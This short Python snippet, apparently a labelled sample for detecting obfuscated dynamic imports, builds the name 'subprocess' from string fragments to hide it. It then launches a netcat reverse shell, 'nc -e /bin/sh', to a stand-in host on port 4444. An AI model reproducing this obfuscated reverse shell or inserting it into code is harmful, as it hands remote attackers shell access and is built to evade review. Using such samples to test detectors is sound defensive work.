# dynamic-import: importlib with a name built by join
import importlib

name = "".join(["sub", "pro", "cess"])
importlib.import_module(name).Popen(["nc", "-e", "/bin/sh", "198.51.100.23", "4444"])
